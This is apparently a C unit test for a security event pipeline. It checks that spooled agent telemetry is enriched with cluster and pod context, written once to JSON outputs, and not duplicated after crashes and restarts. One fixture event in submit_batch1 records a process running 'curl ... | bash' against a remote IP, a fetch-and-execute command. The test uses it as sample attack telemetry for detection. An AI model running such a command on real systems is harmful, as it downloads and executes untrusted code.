/* Component test: a real spool in a temporary directory feeds the pipeline,
 * which writes enriched events to events-out; a restart after a clean stop
 * emits nothing twice. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <jansson.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "chainwatch.pb-c.h"
#include "common/config.h"
#include "common/log.h"
#include "common/metrics.h"
#include "correlator/pipeline.h"
#include "storage/outrec.h"
#include "storage/spool.h"

static char dir[64];
static cw_config cfg;

/* ------------------------------------------------------------ spool side */

typedef struct sreq {
    cw_spool_req req;
    uint8_t *body;
} sreq;

static pthread_mutex_t mu = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t cv = PTHREAD_COND_INITIALIZER;
static int done_ok, done_total;

/* Spool writer thread: the record is durable (or failed). */
static void on_done(cw_spool_req *req)
{
    pthread_mutex_lock(&mu);
    done_total++;
    if (req->status == CW_SPOOL_OK) done_ok++;
    pthread_cond_broadcast(&cv);
    pthread_mutex_unlock(&mu);
}

static void wait_done(int n)
{
    struct timespec dl;
    clock_gettime(CLOCK_REALTIME, &dl);
    dl.tv_sec += 60; /* only keeps a broken build from hanging */
    pthread_mutex_lock(&mu);
    while (done_total < n)
        if (pthread_cond_timedwait(&cv, &mu, &dl) != 0) break;
    int ok = done_ok;
    pthread_mutex_unlock(&mu);
    assert_int_equal(ok, n);
}

static sreq reqs[16];
static int nreqs;

static void submit(cw_spool *s, uint8_t kind, const char *key, uint64_t seq, uint8_t *body,
                   size_t len)
{
    sreq *q = &reqs[nreqs++];
    memset(q, 0, sizeof *q);
    q->body = body;
    q->req.kind = kind;
    q->req.key = key;
    q->req.key_len = (uint8_t)strlen(key);
    q->req.seq = seq;
    q->req.time_ns = 1714557600LL * 1000000000LL;
    q->req.body = body;
    q->req.body_len = (uint32_t)len;
    q->req.done = on_done;
    q->req.user = q;
    assert_int_equal(cw_spool_submit(s, &q->req), CW_SPOOL_OK);
}

static void free_reqs(void)
{
    for (int i = 0; i < nreqs; i++) free(reqs[i].body);
    nreqs = 0;
    done_ok = done_total = 0;
}

static uint8_t *pack(const ProtobufCMessage *m, size_t *len)
{
    *len = protobuf_c_message_get_packed_size(m);
    uint8_t *p = malloc(*len ? *len : 1);
    protobuf_c_message_pack(m, p);
    return p;
}

static void submit_hello(cw_spool *s, const char *agent, const char *host)
{
    Chainwatch__V1__Hello h = CHAINWATCH__V1__HELLO__INIT;
    char *ips[] = {"10.2.0.21"};
    h.agent_id = (char *)agent;
    h.hostname = (char *)host;
    h.cloud = "tencent";
    h.region = "ap-shanghai";
    h.cluster = "prod-sh";
    h.n_ip_addresses = 1;
    h.ip_addresses = ips;
    size_t len;
    uint8_t *b = pack(&h.base, &len);
    submit(s, CW_REC_HELLO, agent, 0, b, len);
}

/* Batch 1: container_start (pod with a team label), an exec inside it, a
 * host login, and one event with no payload (skipped). */
static void submit_batch1(cw_spool *s, const char *agent)
{
    Chainwatch__V1__Label l1 = CHAINWATCH__V1__LABEL__INIT, l2 = CHAINWATCH__V1__LABEL__INIT;
    Chainwatch__V1__Label *labels[] = {&l1, &l2};
    l1.key = "app";
    l1.value = "checkout";
    l2.key = "team";
    l2.value = "trade";
    Chainwatch__V1__ContainerStart cs = CHAINWATCH__V1__CONTAINER_START__INIT;
    cs.container_id = "ce37";
    cs.name = "checkout";
    cs.image = "registry.corp/checkout:8.1";
    cs.pod_uid = "c6fb";
    cs.pod = "checkout-6f7c9-abcde";
    cs.namespace_ = "shop";
    cs.n_labels = 2;
    cs.labels = labels;
    Chainwatch__V1__ProcessExec pe = CHAINWATCH__V1__PROCESS_EXEC__INIT;
    char *argv[] = {"sh", "-c", "curl -s http://198.51.100.40/x.sh|bash"};
    pe.has_pid = pe.has_ppid = pe.has_uid = 1;
    pe.pid = 7001;
    pe.ppid = 900;
    pe.uid = 1000;
    pe.exe = "/bin/sh";
    pe.n_argv = 3;
    pe.argv = argv;
    pe.container_id = "ce37";
    Chainwatch__V1__Login lg = CHAINWATCH__V1__LOGIN__INIT;
    lg.user = "root";
    lg.src_ip = "203.0.113.5";
    lg.service = "sshd";
    lg.method = "password";
    lg.has_success = 1;
    Chainwatch__V1__Event e0 = CHAINWATCH__V1__EVENT__INIT, e1 = CHAINWATCH__V1__EVENT__INIT;
    Chainwatch__V1__Event e2 = CHAINWATCH__V1__EVENT__INIT, e3 = CHAINWATCH__V1__EVENT__INIT;
    e0.has_time_ns = e1.has_time_ns = e2.has_time_ns = e3.has_time_ns = 1;
    e0.time_ns = 1714557600000000000LL;
    e1.time_ns = e0.time_ns + 5000000000LL;
    e2.time_ns = e0.time_ns + 6000000000LL;
    e3.time_ns = e0.time_ns + 7000000000LL;
    e0.payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_CONTAINER_START;
    e0.container_start = &cs;
    e1.payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC;
    e1.process_exec = &pe;
    e2.payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_LOGIN;
    e2.login = &lg;
    /* e3: no payload */
    Chainwatch__V1__Event *evs[] = {&e0, &e1, &e2, &e3};
    Chainwatch__V1__EventBatch b = CHAINWATCH__V1__EVENT_BATCH__INIT;
    b.has_seq = 1;
    b.seq = 1;
    b.n_events = 4;
    b.events = evs;
    size_t len;
    uint8_t *body = pack(&b.base, &len);
    submit(s, CW_REC_BATCH, agent, 1, body, len);
}

static void submit_exec_batch(cw_spool *s, const char *agent, uint64_t seq)
{
    Chainwatch__V1__ProcessExec pe = CHAINWATCH__V1__PROCESS_EXEC__INIT;
    pe.exe = "/usr/bin/id";
    pe.container_id = "ce37";
    Chainwatch__V1__Event e = CHAINWATCH__V1__EVENT__INIT;
    e.has_time_ns = 1;
    e.time_ns = 1714557700000000000LL;
    e.payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC;
    e.process_exec = &pe;
    Chainwatch__V1__Event *evs[] = {&e};
    Chainwatch__V1__EventBatch b = CHAINWATCH__V1__EVENT_BATCH__INIT;
    b.has_seq = 1;
    b.seq = seq;
    b.n_events = 1;
    b.events = evs;
    size_t len;
    uint8_t *body = pack(&b.base, &len);
    submit(s, CW_REC_BATCH, agent, seq, body, len);
}

static void submit_audit(cw_spool *s, const char *cluster)
{
    const char *shared = getenv("CW_SHARED");
    char path[1024];
    snprintf(path, sizeof path, "%s/corpus/k8s-audit/create-privileged-pod.json",
             shared ? shared : "../shared");
    FILE *f = fopen(path, "rb");
    assert_non_null(f);
    uint8_t *body = malloc(65536);
    size_t len = fread(body, 1, 65536, f);
    fclose(f);
    submit(s, CW_REC_AUDIT, cluster, 0, body, len);
}

/* ------------------------------------------------------------ helpers */

static cw_spool *open_spool_in(const char *data_dir)
{
    cw_spool_opts o = {.data_dir = data_dir,
                       .segment_bytes = 1024 * 1024,
                       .max_bytes = 64 * 1024 * 1024,
                       .queue_max_bytes = 16 * 1024 * 1024};
    cw_spool *s;
    char err[256];
    if (cw_spool_open(&s, &o, err, sizeof err) < 0) fail_msg("spool in %s: %s", data_dir, err);
    return s;
}

static cw_spool *open_spool(void)
{
    return open_spool_in(dir);
}

/* The events-out file as parsed lines. */
static json_t *read_lines(const char *path)
{
    json_t *arr = json_array();
    FILE *f = fopen(path, "rb");
    if (!f) return arr;
    char *line = NULL;
    size_t cap = 0;
    ssize_t n;
    while ((n = getline(&line, &cap, f)) > 0) {
        assert_int_equal(line[n - 1], '\n'); /* whole lines only */
        json_error_t jerr;
        json_t *j = json_loadb(line, (size_t)n - 1, 0, &jerr);
        if (!j) fail_msg("invalid line (%s): %s", jerr.text, line);
        json_array_append_new(arr, j);
    }
    free(line);
    fclose(f);
    return arr;
}

static json_t *by_id(json_t *lines, const char *id)
{
    size_t i;
    json_t *j;
    json_array_foreach(lines, i, j)
    {
        if (strcmp(json_string_value(json_object_get(j, "id")), id) == 0) return j;
    }
    fail_msg("no line with id %s", id);
    return NULL;
}

static const char *js(json_t *j, const char *k)
{
    return json_string_value(json_object_get(j, k));
}

static off_t file_size(const char *path)
{
    struct stat st;
    if (stat(path, &st) < 0) return -1;
    return st.st_size;
}

static int setup(void **state)
{
    (void)state;
    snprintf(dir, sizeof dir, "/tmp/cw-pipeline-XXXXXX");
    if (!mkdtemp(dir)) return -1;
    cw_config_defaults(&cfg);
    snprintf(cfg.data_dir, sizeof cfg.data_dir, "%s", dir);
    snprintf(cfg.events_out, sizeof cfg.events_out, "%s/events.jsonl", dir);
    snprintf(cfg.alerts_out, sizeof cfg.alerts_out, "%s/alerts.jsonl", dir);
    snprintf(cfg.incidents_out, sizeof cfg.incidents_out, "%s/incidents.jsonl", dir);
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    char cmd[128];
    snprintf(cmd, sizeof cmd, "rm -rf %s", dir);
    return system(cmd) == 0 ? 0 : -1;
}

/* ------------------------------------------------------------ the test */

static void spool_to_events_out_once(void **state)
{
    (void)state;
    char err[256];
    uint64_t bad0 = cw_metric_get(cw_m.pipeline_bad_records_total);
    uint64_t ev0 = cw_metric_get(cw_m.pipeline_events_total);

    /* Run 1: hello, a batch, a corrupt batch, an audit event. */
    cw_spool *s = open_spool();
    cw_pipeline *p;
    if (cw_pipeline_create(&p, &cfg, s, err, sizeof err) < 0) fail_msg("%s", err);
    assert_int_equal(cw_spool_start(s), 0);
    assert_int_equal(cw_pipeline_start(p, err, sizeof err), 0);
    submit_hello(s, "ag-1", "node-1");
    submit_batch1(s, "ag-1");
    uint8_t *junk = malloc(8);
    memcpy(junk, "\x12\xff\xff\xff\xff\x0f\x00\x01", 8); /* a length past the end */
    submit(s, CW_REC_BATCH, "ag-2", 1, junk, 8);
    submit_audit(s, "prod-sh");
    wait_done(4);

    /* While running, the lines show up once the spool runs dry. */
    for (int i = 0; i < 600 && cw_metric_get(cw_m.pipeline_events_total) < ev0 + 4; i++)
        usleep(50 * 1000);
    assert_int_equal(cw_metric_get(cw_m.pipeline_events_total), ev0 + 4);

    cw_spool_stop(s);
    cw_pipeline_stop(p);
    cw_pipeline_stats st;
    cw_pipeline_get_stats(p, &st);
    assert_int_equal(st.records, 4);
    assert_int_equal(st.events, 4);
    assert_int_equal(st.bad_records, 1);
    assert_int_equal(st.bad_events, 1);
    assert_int_equal(cw_metric_get(cw_m.pipeline_bad_records_total), bad0 + 1);
    cw_pipeline_free(p);
    cw_spool_close(s);
    free_reqs();

    json_t *lines = read_lines(cfg.events_out);
    assert_int_equal(json_array_size(lines), 4); /* one line per event */
    json_t *cs = by_id(lines, "ag-1:1:0");
    assert_string_equal(js(cs, "type"), "container_start");
    assert_string_equal(js(cs, "image"), "registry.corp/checkout:8.1");
    json_t *ex = by_id(lines, "ag-1:1:1");
    assert_string_equal(js(ex, "type"), "process_exec");
    assert_string_equal(js(ex, "host"), "node-1");
    assert_string_equal(js(ex, "node"), "node-1");
    assert_string_equal(js(ex, "cluster"), "prod-sh");
    assert_string_equal(js(ex, "cloud"), "tencent");
    assert_string_equal(js(ex, "region"), "ap-shanghai");
    assert_string_equal(js(ex, "namespace"), "shop");
    assert_string_equal(js(ex, "pod"), "checkout-6f7c9-abcde");
    assert_string_equal(js(ex, "pod_uid"), "c6fb");
    assert_string_equal(js(ex, "container_id"), "ce37");
    assert_string_equal(js(ex, "owner"), "trade");
    assert_string_equal(js(json_object_get(ex, "labels"), "app"), "checkout");
    assert_string_equal(js(ex, "time"), "2024-05-01T10:00:05.000000000Z");
    json_t *lg = by_id(lines, "ag-1:1:2");
    assert_string_equal(js(lg, "type"), "login");
    assert_string_equal(js(lg, "host"), "node-1");
    assert_true(json_is_null(json_object_get(lg, "pod")));
    json_t *au = by_id(lines, "prod-sh:a362d22b-db3c-4590-9505-23782f12925f:ResponseComplete");
    assert_string_equal(js(au, "type"), "k8s_audit");
    assert_string_equal(js(au, "cloud"), "tencent");
    assert_string_equal(js(au, "pod"), "nginx-deployment-5cdcc99dbf-rgw6z");
    assert_string_equal(js(au, "verb"), "create");
    json_decref(lines);
    /* The built-in rules see the privileged pod the audit event created. */
    json_t *alerts = read_lines(cfg.alerts_out);
    int privileged = 0;
    for (size_t i = 0; i < json_array_size(alerts); i++)
        if (strstr(js(json_array_get(alerts, i), "rule"), "privileged")) privileged = 1;
    assert_true(privileged);
    json_decref(alerts);
    json_decref(read_lines(cfg.incidents_out)); /* valid JSON Lines, maybe empty */
    off_t size1 = file_size(cfg.events_out);

    /* Run 2, same data dir, nothing new: nothing is emitted again. */
    s = open_spool();
    assert_int_equal(cw_pipeline_create(&p, &cfg, s, err, sizeof err), 0);
    assert_int_equal(cw_spool_start(s), 0);
    assert_int_equal(cw_pipeline_start(p, err, sizeof err), 0);
    cw_spool_stop(s);
    cw_pipeline_stop(p);
    cw_pipeline_get_stats(p, &st);
    assert_int_equal(st.records, 0);
    cw_pipeline_free(p);
    cw_spool_close(s);
    assert_int_equal(file_size(cfg.events_out), size1);

    /* Run 3: a new batch appends exactly its line; the context from run 1
     * is not persisted (documented), so only the agent id is known. */
    s = open_spool();
    assert_int_equal(cw_pipeline_create(&p, &cfg, s, err, sizeof err), 0);
    assert_int_equal(cw_spool_start(s), 0);
    assert_int_equal(cw_pipeline_start(p, err, sizeof err), 0);
    submit_hello(s, "ag-1", "node-1");
    submit_exec_batch(s, "ag-1", 2);
    wait_done(2);
    cw_spool_stop(s);
    cw_pipeline_stop(p);
    cw_pipeline_free(p);
    cw_spool_close(s);
    free_reqs();
    lines = read_lines(cfg.events_out);
    assert_int_equal(json_array_size(lines), 5);
    json_t *ex2 = by_id(lines, "ag-1:2:0");
    assert_string_equal(js(ex2, "host"), "node-1");
    assert_string_equal(js(ex2, "container_id"), "ce37");
    json_decref(lines);
}

/* ------------------------------------------------------------ sink spool */

static cw_spool *open_sink_spool(void)
{
    char sdir[128];
    snprintf(sdir, sizeof sdir, "%s/out", dir);
    return open_spool_in(sdir);
}

typedef struct sink_seen {
    int records, events, alerts, incidents;
    uint64_t last_seq;
    char ids[16][128];
} sink_seen;

/* Reads the whole sink spool with a fresh reader and tallies it. */
static void read_sink_spool(sink_seen *seen)
{
    memset(seen, 0, sizeof *seen);
    cw_spool *s = open_sink_spool();
    cw_spool_reader *r;
    char name[32];
    static int n;
    snprintf(name, sizeof name, "check%d", n++);
    assert_int_equal(cw_spool_reader_open(s, name, &r), 0);
    cw_spool_stop(s);
    cw_spool_record rec;
    while (cw_spool_read(r, &rec, 0) == 1) {
        seen->records++;
        assert_int_equal(rec.key_len, strlen(CW_OUTREC_KEY));
        assert_memory_equal(rec.key, CW_OUTREC_KEY, rec.key_len);
        if (rec.seq) seen->last_seq = rec.seq;
        if (rec.kind == CW_REC_OUT_EVENTS) {
            size_t pos = 0;
            cw_outrec_event e;
            int got;
            while ((got = cw_outrec_next(rec.body, rec.body_len, &pos, &e)) == 1) {
                assert_true(seen->events < 16);
                snprintf(seen->ids[seen->events], sizeof seen->ids[0], "%.*s", (int)e.id_len,
                         e.id);
                seen->events++;
                /* The protobuf and the JSON object tell the same event. */
                Chainwatch__V1__StoredEvent *m =
                    chainwatch__v1__stored_event__unpack(NULL, e.pb_len, e.pb);
                assert_non_null(m);
                assert_int_equal(strlen(m->id), e.id_len);
                assert_memory_equal(m->id, e.id, e.id_len);
                assert_int_equal(m->time_ns, e.time_ns);
                json_t *j = json_loadb(e.json, e.json_len, 0, NULL);
                assert_non_null(j);
                assert_string_equal(js(j, "id"), m->id);
                assert_string_equal(js(j, "type"), m->type);
                if (strcmp(m->id, "ag-1:1:1") == 0) {
                    assert_string_equal(m->pod, "checkout-6f7c9-abcde");
                    assert_string_equal(m->namespace_, "shop");
                    assert_string_equal(m->cluster, "prod-sh");
                    assert_non_null(m->event);
                    /* One Pod's events share a partition key. */
                    assert_int_equal(e.key_len, strlen("prod-sh/shop/checkout-6f7c9-abcde"));
                    assert_memory_equal(e.key, "prod-sh/shop/checkout-6f7c9-abcde", e.key_len);
                }
                if (strcmp(m->type, "k8s_audit") == 0) {
                    assert_non_null(m->audit_json);
                    assert_null(m->event);
                }
                json_decref(j);
                chainwatch__v1__stored_event__free_unpacked(m, NULL);
            }
            assert_int_equal(got, 0);
        } else if (rec.kind == CW_REC_OUT_ALERT || rec.kind == CW_REC_OUT_INCIDENT) {
            json_t *j = json_loadb((const char *)rec.body, rec.body_len, 0, NULL);
            assert_non_null(j);
            assert_non_null(js(j, "id"));
            if (rec.kind == CW_REC_OUT_ALERT) seen->alerts++;
            else seen->incidents++;
            json_decref(j);
        } else {
            fail_msg("unexpected kind %u in the sink spool", rec.kind);
        }
    }
    cw_spool_close(s);
}

/* One run of the pipeline with a sink spool over whatever `feed` submits. */
static void run_with_sink(void (*feed)(cw_spool *), int nreq)
{
    char err[256];
    cw_spool *s = open_spool(), *out = open_sink_spool();
    cw_pipeline *p;
    cw_config c = cfg;
    snprintf(c.pg_conninfo, sizeof c.pg_conninfo, "host=unused"); /* a sink is configured */
    if (cw_pipeline_create(&p, &c, s, err, sizeof err) < 0) fail_msg("%s", err);
    if (cw_pipeline_set_sink(p, out, 1 << 20, err, sizeof err) < 0) fail_msg("%s", err);
    assert_int_equal(cw_spool_start(s), 0);
    assert_int_equal(cw_spool_start(out), 0);
    assert_int_equal(cw_pipeline_start(p, err, sizeof err), 0);
    if (feed) feed(s);
    wait_done(nreq);
    cw_spool_stop(s);
    cw_pipeline_stop(p);
    cw_spool_stop(out);
    cw_pipeline_free(p);
    cw_spool_close(out);
    cw_spool_close(s);
    free_reqs();
}

static void feed_first(cw_spool *s)
{
    submit_hello(s, "ag-1", "node-1");
    submit_batch1(s, "ag-1");
    submit_audit(s, "prod-sh");
}

static void feed_second(cw_spool *s)
{
    submit_hello(s, "ag-1", "node-1");
    submit_exec_batch(s, "ag-1", 2);
}

static void sink_spool_gets_every_output_once(void **state)
{
    (void)state;
    run_with_sink(feed_first, 3);
    sink_seen a;
    read_sink_spool(&a);
    assert_int_equal(a.events, 4); /* batch1's three and the audit event */
    assert_string_equal(a.ids[0], "ag-1:1:0");
    assert_true(a.alerts >= 1); /* the privileged pod */
    assert_true(a.incidents >= 1);
    assert_true(a.last_seq > 0);

    /* A crash after the outputs were stored but before the input cursor was
     * saved: the input is processed again, but nothing is stored twice. */
    char cursor[128];
    snprintf(cursor, sizeof cursor, "%s/spool/cursors/pipeline", dir);
    assert_int_equal(unlink(cursor), 0);
    run_with_sink(NULL, 0);
    sink_seen b;
    read_sink_spool(&b);
    assert_int_equal(b.records, a.records);
    assert_int_equal(b.events, 4);

    /* New input after that: exactly its outputs are added. */
    run_with_sink(feed_second, 2);
    sink_seen c;
    read_sink_spool(&c);
    assert_int_equal(c.events, 5);
    assert_string_equal(c.ids[4], "ag-1:2:0");
    assert_true(c.last_seq > a.last_seq);
}

/* Cuts the sink spool after its last events record, as a crash would that
 * came after the events were durable but before the held incident states
 * were written. */
static void cut_after_last_events_record(void)
{
    cw_spool *s = open_sink_spool();
    cw_spool_reader *r;
    assert_int_equal(cw_spool_reader_open(s, "cut", &r), 0);
    cw_spool_stop(s);
    cw_spool_record rec;
    uint64_t cut = 0, cut_seq = 0;
    int after = 0;
    while (cw_spool_read(r, &rec, 0) == 1) {
        if (rec.kind == CW_REC_OUT_EVENTS) cut = rec.end, cut_seq = rec.seq, after = 0;
        else after++;
    }
    cw_spool_close(s);
    assert_true(cut > 0 && cut_seq > 0);
    assert_true(after > 0); /* incident states followed: the case under test */
    /* One segment here (1 MiB each, far more than this test writes), named
     * after its first offset, 0. */
    char seg[160];
    snprintf(seg, sizeof seg, "%s/out/spool/%020llu.seg", dir, 0ULL);
    assert_int_equal(truncate(seg, (off_t)cut), 0);
}

static void crash_before_incident_flush_duplicates_no_event(void **state)
{
    (void)state;
    run_with_sink(feed_first, 3);
    cut_after_last_events_record();
    sink_seen a;
    read_sink_spool(&a);
    assert_int_equal(a.events, 4);
    char cursor[128];
    snprintf(cursor, sizeof cursor, "%s/spool/cursors/pipeline", dir);
    assert_int_equal(unlink(cursor), 0);
    run_with_sink(NULL, 0);
    sink_seen b;
    read_sink_spool(&b);
    assert_int_equal(b.events, 4); /* not put again */
}

static void output_in_missing_directory_fails_create(void **state)
{
    (void)state;
    cw_spool *s = open_spool();
    cw_config bad = cfg;
    snprintf(bad.events_out, sizeof bad.events_out, "%s/no/such/dir/events.jsonl", dir);
    cw_pipeline *p = NULL;
    char err[256];
    assert_int_equal(cw_pipeline_create(&p, &bad, s, err, sizeof err), -1);
    assert_non_null(strstr(err, "no/such/dir"));
    cw_spool_close(s);
}

int main(void)
{
    cw_log_set_level(CW_LOG_WARN);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(sink_spool_gets_every_output_once, setup, teardown),
        cmocka_unit_test_setup_teardown(crash_before_incident_flush_duplicates_no_event, setup,
                                        teardown),
        cmocka_unit_test(spool_to_events_out_once),
        cmocka_unit_test(output_in_missing_directory_fails_create),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
